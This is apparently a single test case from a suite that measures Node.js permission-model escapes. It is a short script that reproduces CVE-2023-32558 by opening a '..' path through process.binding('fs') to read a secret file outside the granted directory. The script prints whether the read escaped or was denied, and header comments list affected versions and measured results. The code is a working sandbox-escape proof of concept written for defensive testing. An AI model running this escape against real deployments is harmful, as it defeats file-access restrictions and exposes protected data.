// id: A07
// title: process.binding('fs') opens a path with ..
// label: CVE-2023-32558 fixed in 20.5.1
// reference: https://nodejs.org/en/blog/vulnerability/august-2023-security-releases
// versions: >=20.0.0 <20.5.1
// measured: escapes: 20.3.0, 20.5.0; denied: 20.8.0 to 26.10.0
// grants: --allow-fs-read={grant} --allow-fs-write={grant}
// prove: content
// stops: landlock
'use strict';
const [grant, secret] = process.argv.slice(2);
const finish = (text) => { process.stdout.write(text.split('\n', 1)[0] + '\n'); process.exit(); };
const escaped = (evidence) => finish(`ESCAPED ${evidence}`);
const DENIAL = /^(ERR_ACCESS_DENIED|ERR_DLOPEN_DISABLED|ERR_DLOPEN_FAILED|EACCES|EPERM|ENOSYS|EXDEV|EROFS)$/;
const failed = (error) => finish(`${DENIAL.test(error.code) ? 'DENIED' : 'BROKEN'} ${error.code || error.name} ${error.message}`);
process.on('uncaughtException', failed);

const fs = require('fs');
const path = require('path');
try {
  const binding = process.binding('fs');
  const file = `${grant}/../${path.basename(secret)}/secret.txt`;
  // Older bindings report by a context object and abort without one, newer ones throw and abort with one: fs itself tells.
  const context = {};
  const more = binding.openSync || /ctx/.test(fs.openSync.toString()) ? [undefined, context] : [];
  const fd = binding.open(file, fs.constants.O_RDONLY, 0o666, ...more);
  const refusal = context.code || (fd < 0 && require('util').getSystemErrorName(fd));
  if (refusal) throw Object.assign(new Error(context.message || 'open'), { code: refusal });
  const bytes = Buffer.alloc(64);
  fs.readSync(fd, bytes, 0, 64, 0);
  escaped(bytes.toString());
} catch (error) {
  failed(error);
}
